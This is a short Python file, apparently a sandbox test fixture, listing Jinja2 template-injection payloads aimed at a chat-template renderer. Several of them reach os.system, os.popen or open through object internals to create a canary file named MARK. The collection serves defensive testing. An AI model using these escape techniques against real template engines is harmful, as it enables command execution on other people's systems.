"""Templates that try to leave the sandbox. Those that could would leave a file called MARK."""

from __future__ import annotations

PAYLOADS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('touch MARK').read() }}",
    "{{ lipsum.__globals__['os'].system('touch MARK') }}",
    "{{ self.__init__.__globals__.__builtins__.open('MARK', 'w') }}",
    "{{ joiner.__init__.__globals__.__builtins__.__import__('os').system('touch MARK') }}",
    "{{ (''|attr('__class__')|attr('__base__')|attr('__subclasses__'))() }}",
    "{{ raise_exception.__globals__.__builtins__.open('MARK', 'w') }}",
    "{{ strftime_now.__globals__['datetime'].__class__ }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "{{ messages.append(messages) }}",
    "{% set ns = namespace() %}{% set ns.__call__ = messages.__class__ %}{{ ns() }}",
    "{{ namespace(__call__=1) }}",
    "{{ (messages|map(attribute='__class__')|list)[0].__base__ }}",
    "{% set f = '{0.__class__}'.format %}{{ f(1).__class__.__mro__ }}",
]
